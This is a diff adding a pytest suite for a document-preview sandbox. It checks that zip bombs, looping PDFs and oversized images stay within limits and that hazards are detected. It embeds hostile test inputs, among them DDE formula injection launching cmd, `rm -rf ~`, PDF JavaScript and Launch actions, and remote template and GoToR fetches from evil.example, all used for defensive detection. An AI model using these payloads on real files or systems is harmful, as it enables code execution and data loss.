@@ -1,0 +1,373 @@
+"""Files made to do harm are looked at in bounded time and memory, and named; nothing runs."""
+
+import asyncio
+import resource
+import time
+from collections.abc import AsyncIterator
+
+import pytest
+
+from console.previews import (
+    HAZARDS,
+    Drawing,
+    Glancing,
+    Looked,
+    NotShown,
+    Orders,
+    Picture,
+    Text,
+    Unseen,
+    Way,
+    glance_at,
+    hazards_at,
+    kind_of,
+    look,
+    unseen,
+)
+from tests.console import hostile_files as hostile
+from tests.console.hostile_files import docx, open_document, paragraph, xlsx, zipped
+from tests.console.test_previews import bomb_png, pdf, picture, says
+
+AT_MOST_S = 24.0
+GROWN_AT_MOST_KIB = 64 * 1024
+
+
+async def looked_at(data: bytes, page: int = 1, orders: Orders | None = None) -> Looked:
+    """As a page looks at it; the console itself must not pay for it, and it must end."""
+    before, started = _peak(), time.monotonic()
+    looked = await look(Drawing(orders), data, page)
+    assert time.monotonic() - started < AT_MOST_S
+    assert _peak() - before < GROWN_AT_MOST_KIB
+    return looked
+
+
+def _peak() -> int:
+    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+
+
+# --- documents
+
+
+async def test_a_letter_is_its_words() -> None:
+    body = paragraph("สัญญาเลขที่ 44") + "<w:p><w:r><w:t>ยอด</w:t><w:tab/><w:t>5</w:t></w:r></w:p>"
+    looked = await looked_at(docx(body, word__footnotes_dot_xml=f"<f>{paragraph('หมายเหตุ')}</f>"))
+    assert (looked.kind.name, looked.kind.way, looked.hazards) == ("docx", Way.READ, ())
+    assert looked.text == Text(("สัญญาเลขที่ 44\nยอด\t5\nหมายเหตุ",), 1, False)
+
+
+async def test_a_formula_is_text_and_was_not_worked_out() -> None:
+    rows = (
+        "<row><c t='s'><v>1</v></c><c t='s'><v>99</v></c><c t='inlineStr'><is><t>in</t></is></c>"
+        "</row><row><c><f>1+1</f><v>2</v></c><c><f>cmd|' /C calc'!A0</f></c></row>"
+    )
+    looked = await looked_at(xlsx(rows, "<si><t>a</t></si><si><r><t>b</t></r><r><t>c</t></r></si>"))
+    assert isinstance(looked.text, Text)
+    assert looked.text.pages == ("bc\t\tin\n2 [=1+1]\t [=cmd|' /C calc'!A0]",)
+
+
+async def test_open_documents_are_read_page_by_page() -> None:
+    text = await looked_at(
+        open_document("text", "<text:h>หัวข้อ</text:h><text:p>ก<text:s/>ข</text:p>")
+    )
+    assert text.text == Text(("หัวข้อ\nก ข",), 1, False)
+    cell = "<table:table-cell table:formula='of:=1+1'><text:p>2</text:p></table:table-cell>"
+    rows = f"<table:table-row>{cell}</table:table-row>"
+    sheets = await looked_at(
+        open_document(
+            "spreadsheet", f"<table:table>{rows}</table:table><table:table>{rows}</table:table>"
+        )
+    )
+    assert isinstance(sheets.text, Text)
+    assert (sheets.text.pages, sheets.text.of) == (("[of:=1+1] \t2",) * 2, 2)
+    slides = await looked_at(
+        open_document("presentation", "<draw:page><text:p>one</text:p></draw:page>" * 25)
+    )
+    assert isinstance(slides.text, Text)
+    assert (len(slides.text.pages), slides.text.of, slides.text.is_cut) == (20, 25, True)
+
+
+_TYPES = "[Content_Types].xml"
+_MANY = {str(n): "" for n in range(5001)}
+_ODT = "application/vnd.oasis.opendocument.text"
+
+
+@pytest.mark.parametrize(
+    ("data", "reason"),
+    [
+        (hostile.zip_bomb(0.3), "too_large"),
+        (hostile.lying_zip(60_000, 60), "damaged"),
+        (zipped({_TYPES: "x", "word/document.xml": hostile.entity_bomb()}), "damaged"),
+        (docx("<a>" * 5000), "damaged"),
+        (docx("<w:p>") , "damaged"),
+        (docx(paragraph("x"))[:-40], "damaged"),
+        (zipped({_TYPES: "x", "word/documents/": ""}), "damaged"),
+        (zipped({_TYPES: "", "word/document.xml": "<a/>"} | _MANY), "too_large"),
+        (open_document("text", "<text:p/>"), "no_text"),
+        (zipped({"mimetype": _ODT}, stored="mimetype"), "damaged"),
+    ],
+)  # fmt: skip
+async def test_a_document_made_to_do_harm_is_not_shown(data: bytes, reason: str) -> None:
+    looked = await looked_at(data)
+    assert looked.kind.way is Way.READ
+    assert looked.text == NotShown(reason)
+
+
+async def test_a_long_document_is_cut_and_what_is_behind_costs_nothing() -> None:
+    """Five million paragraphs: what is more than is shown is not even read."""
+    long = await looked_at(docx(paragraph("a") * 2_000_000))
+    assert isinstance(long.text, Text)
+    assert long.text.is_cut
+    assert sum(map(len, long.text.pages)) <= Orders().text_chars
+    amplified = xlsx(
+        "<row>" + "<c t='s'><v>0</v></c>" * 200_000 + "</row>", f"<si><t>{'x' * 30_000}</t></si>"
+    )
+    many = await looked_at(amplified)
+    assert isinstance(many.text, Text)
+    assert many.text.is_cut
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "cp874"])
+async def test_plain_text_is_text_in_whatever_thai_was_written(encoding: str) -> None:
+    looked = await looked_at("เห็นเขาเอาปูนไป\nวันที่ 3".encode(encoding))
+    assert looked.text == Text(("เห็นเขาเอาปูนไป\nวันที่ 3",), 1, False)
+    assert looked.hazards == ()
+
+
+# --- pictures and pages
+
+
+async def test_a_pdf_is_drawn_page_by_page_with_its_text_beside_it() -> None:
+    book = pdf(says("one"), says("two"), says("three"))
+    second = await looked_at(book, page=2)
+    assert isinstance(second.picture, Picture)
+    assert isinstance(second.text, Text)
+    assert (second.of, second.page, second.text.of) == (3, 2, 3)
+    first = await looked_at(book)
+    assert isinstance(first.picture, Picture)
+    assert first.picture.webp != second.picture.webp
+    beyond = await looked_at(book, page=4)
+    assert (beyond.picture, beyond.reasons) == (NotShown("no_page"), ("no_page",))
+
+
+async def test_a_pdf_of_ten_thousand_pages_costs_what_one_page_costs() -> None:
+    looked = await looked_at(pdf(*(says(f"page {n}") for n in range(10_000))), page=500)
+    assert isinstance(looked.picture, Picture)
+    assert isinstance(looked.text, Text)
+    assert (looked.text.of, len(looked.text.pages), looked.text.is_cut) == (10_000, 20, True)
+    assert looked.of == Orders().drawn_pages
+    told = unseen(7, looked, pages=20)
+    assert told is not None
+    assert told.left_out == ("more_pages", "more_text")
+
+
+async def test_a_tree_of_pages_that_bites_its_tail_is_given_up() -> None:
+    looked = await looked_at(hostile.looping_pdf())
+    assert isinstance(looked.picture, NotShown)
+    assert looked.reasons
+
+
+async def test_a_picture_too_large_inside_a_pdf_harms_nothing() -> None:
+    """The page is drawn as far as that goes, within the limits."""
+    for data in (hostile.huge_picture_pdf(), hostile.broken_jbig2_pdf()):
+        looked = await looked_at(data)
+        assert isinstance(looked.picture, Picture)
+        assert (looked.picture.width, looked.reasons) == (600, ())
+        assert looked.text == Text(("",), 1, False)
+
+
+async def test_a_page_without_an_end_is_given_up_and_its_text_is_read_all_the_same() -> None:
+    """The picture's worker is killed by its limit; the text is another worker's."""
+    looked = await looked_at(hostile.endless_pdf(), orders=Orders(cpu_s=1))
+    assert looked.picture == NotShown("died")
+    assert looked.text == Text(("",), 1, False)
+    assert looked.reasons == ("died",)
+
+
+async def test_pages_of_a_tiff_are_turned_and_a_chain_without_end_ends() -> None:
+    third = await looked_at(hostile.tiff_of(5), page=3)
+    assert isinstance(third.picture, Picture)
+    assert (third.of, third.picture.width) == (5, 60)
+    assert (await looked_at(hostile.looping_tiff())).picture is not None
+
+
+async def test_an_animation_of_thousands_is_one_picture() -> None:
+    looked = await looked_at(hostile.gif_of(4000))
+    assert isinstance(looked.picture, Picture)
+    assert looked.of == 1
+
+
+async def test_pictures_of_too_many_pixels_are_named() -> None:
+    looked = await looked_at(bomb_png(60_000, 60_000))
+    assert looked.reasons == ("too_large",)
+    assert unseen(3, looked) == Unseen(3, "png", ("too_large",), (), ())
+
+
+# --- hazards
+
+_SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
+
+
+@pytest.mark.parametrize(
+    ("data", "hazards"),
+    [
+        (b"MZ\x90" + bytes(60), ("program",)),
+        (b"\x7fELF\x02", ("program",)),
+        (b"\xca\xfe\xba\xbe\0\0\0\x34", ("program",)),
+        (zipped({"META-INF/MANIFEST.MF": "x", "a.class": "y"}), ("program",)),
+        (b"#!/bin/sh\nrm -rf ~", ("script",)),
+        (b"@echo off\r\ndel *", ("script",)),
+        (b"Set x = CreateObject(\"WScript.Shell\")", ("script",)),
+        (b"\x4c\0\0\0\x01\x14\x02\0" + bytes(60), ("shortcut",)),
+        (b"[InternetShortcut]\r\nURL=http://evil.example", ("shortcut",)),
+        (b"[Desktop Entry]\nExec=sh", ("shortcut",)),
+        (b"<!doctype html><p>", ("markup",)),
+        (b"\xef\xbb\xbf <svg xmlns='http://www.w3.org/2000/svg' onload='x'/>", ("markup",)),
+        (b"<?xml version='1.0'?><?xml-stylesheet href='evil.xsl'?><a/>", ("markup",)),
+        (b"MIME-Version: 1.0\r\nContent-Type: multipart/related", ("mail",)),
+        (b"BEGIN:VCALENDAR\r\nURL:http://evil.example", ("calendar",)),
+        (zipped({"a.txt": "b"}), ("archive",)),
+        (hostile.nested_zip(2), ("archive",)),
+        (b"Rar!\x1a\x07\x01\0", ("archive",)),
+        (b"\x1f\x8b\x08", ("archive",)),
+        (bytes(32769) + b"CD001", ("archive",)),
+        (docx(paragraph("x"), word__vbaProject_dot_bin=b"x"), ("macros",)),
+        (docx(paragraph("x"), word__embeddings__a_dot_bin=b"x"), ("embedded",)),
+        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(90), ("old_office",)),
+        (b"{\\rtf1\\object", ("embedded",)),
+        (b"name,amount\n=cmd|' /C calc'!A0,5", ("formulas",)),
+        (b"a;\"@SUM(1)\";b", ("formulas",)),
+        (b"a\t+HYPERLINK(\"http://evil.example\")", ("formulas",)),
+        (b"a, b = c, 5\n- not this\n+66 81 234 5678", ()),
+        (hostile.acting_pdf(_SCRIPT), ("pdf_acts",)),
+        (hostile.acting_pdf(b"<</S/Launch/F(cmd.exe)>>"), ("pdf_acts",)),
+        (pdf(says("x")), ()),
+        (picture("PNG"), ()),
+        (picture("JPEG") + b"<html><script>alert(1)</script>", ("two_kinds",)),
+        (picture("GIF") + zipped({"A.class": "x"}), ("two_kinds",)),
+        (pdf(says("x")) + zipped({"a": "b"}), ("two_kinds",)),
+        (b"<html><script>x</script>\n" + pdf(says("x")), ("two_kinds",)),
+        (b"GIF89a" + pdf(says("x")), ("two_kinds",)),
+    ],
+)  # fmt: skip
+def test_what_a_file_may_do_is_told_by_its_bytes(data: bytes, hazards: tuple[str, ...]) -> None:
+    assert hazards_at(glance_at(data)) == hazards
+    is_active = set(hazards) & {"program", "shortcut", "markup", "mail", "archive", "old_office"}
+    assert not is_active or kind_of(data).way is Way.NOT
+
+
+@pytest.mark.parametrize("piece", [1, 7, 4096, 70_000])
+def test_what_streams_past_is_judged_like_what_lies_whole(piece: int) -> None:
+    """A mark that falls between two pieces is seen too."""
+    for data in (
+        picture("PNG") + b"x" * 70_000 + b"<ScRiPt>" + b"y" * 500,
+        docx(paragraph("x"), word__vbaProject_dot_bin=b"x"),
+        hostile.acting_pdf(_SCRIPT)[:-200] + b" " * 66_000 + b"/LAUNCH" + b" " * 66_000,
+    ):
+        if piece == 1 and len(data) > 100_000:
+            continue
+        looking = Glancing()
+        for at in range(0, len(data), piece):
+            looking.feed(data[at : at + piece])
+        assert looking.done() == glance_at(data)
+        assert hazards_at(looking.done()) == hazards_at(glance_at(data)) != ()
+
+
+@pytest.mark.parametrize(
+    ("data", "hazard"),
+    [
+        (hostile.hidden_in_object_stream(_SCRIPT), "pdf_acts"),
+        (hostile.acting_pdf(b"<</#53/#4aavaScript/#4a#53(1)>>"), "pdf_acts"),
+        (hostile.acting_pdf(b"", b"/Names<</#45mbeddedFiles<</Names[]>>>>"), "pdf_files"),
+        (hostile.acting_pdf(b"<</S/GoToR/F(//evil.example/a.pdf)>>"), "fetches"),
+        (
+            docx(
+                paragraph("x"),
+                word___rels__document_dot_xml_dot_rels="<R><r Type='x/attachedTemplate' "
+                "TargetMode='External' Target='http://evil.example/a.dotm'/></R>",
+            ),
+            "fetches",
+        ),
+        (
+            docx(
+                paragraph("x") + "<w:p><w:r><w:instrText>DDE</w:instrText></w:r>"
+                "<w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
+            ),
+            "fetches",
+        ),
+        (
+            open_document("text", "<text:p>x</text:p><draw:image xlink:href='http://evil.example'/>"),
+            "fetches",
+        ),
+    ],
+)  # fmt: skip
+async def test_what_only_the_inside_tells_is_told_by_the_worker(data: bytes, hazard: str) -> None:
+    assert hazard not in hazards_at(glance_at(data)), "its bytes do not tell"
+    assert hazard in (await looked_at(data)).hazards
+
+
+async def test_a_link_that_one_must_click_is_no_warning() -> None:
+    linked = docx(
+        paragraph("x"),
+        word___rels__document_dot_xml_dot_rels="<R><r Type='x/hyperlink' TargetMode='External' "
+        "Target='http://example.org'/></R>",
+    )
+    assert (await looked_at(linked)).hazards == ()
+
+
+async def test_a_worker_names_no_hazard_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
+    from console.previews import drawing
+
+    lie = 'import os; os.write(1, b\'{"as":"text","of":1,"hazards":["<b>","macros",["x"],7]}\\nx\')'
+    monkeypatch.setattr(drawing, "_START", lie)
+    text = await Drawing().text(b"x")
+    assert text == Text(("x",), 1, False, ("macros",))
+
+
+# --- what was not seen, for paper
+
+
+def test_what_is_not_seen_on_paper_is_told_for_every_way() -> None:
+    def told(data: bytes, **seen: object) -> Unseen | None:
+        return unseen(2, Looked(kind_of(data), hazards_at(glance_at(data)), **seen))  # type: ignore[arg-type]
+
+    assert told(picture(), picture=Picture(b"", 1, 1)) is None
+    assert told(b"plain", text=Text(("x",), 1, False)) is None
+    assert told(b"MZ") == Unseen(2, "program", ("not_a_kind",), (), ("program",))
+    assert told(docx(paragraph("x")), text=Text(("x",), 1, False)) == Unseen(
+        2, "docx", (), ("layout",), ()
+    )
+    assert told(pdf(says("x")), picture=NotShown("died"), text=NotShown("died")) == Unseen(
+        2, "pdf", ("died",), (), ()
+    )
+    sound = hostile.ogg()
+    heard = told(sound, sound=object())
+    assert heard is not None
+    assert heard.left_out == ("sound",)
+
+
+def test_every_hazard_can_be_found() -> None:
+    assert len(set(HAZARDS)) == len(HAZARDS)
+
+
+@pytest.mark.parametrize(
+    "data", [hostile.mp4(b"isom"), hostile.mp4(b"M4A "), hostile.wav(), hostile.ogg(is_broken=True)]
+)
+async def test_malformed_sounds_and_videos_start_no_worker(
+    data: bytes, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Nothing here decodes them; what the browser is given has a strict type."""
+    from console.previews import drawing
+
+    def refuse() -> AsyncIterator[None]:
+        raise AssertionError("a worker was started")
+
+    monkeypatch.setattr(drawing, "_started", refuse)
+    looked = await looked_at(data)
+    assert (looked.sound is not None) == (looked.kind.way is Way.HEARD)
+    assert looked.sound is None or looked.sound.mime.startswith("audio/")
+
+
+async def test_many_looks_at_once_stay_within_their_places() -> None:
+    drawing = Drawing(Orders(at_once=2, wait_s=20))
+    got = await asyncio.gather(*(look(drawing, pdf(says(str(n)))) for n in range(4)))
+    assert all(isinstance(each.picture, Picture) for each in got)
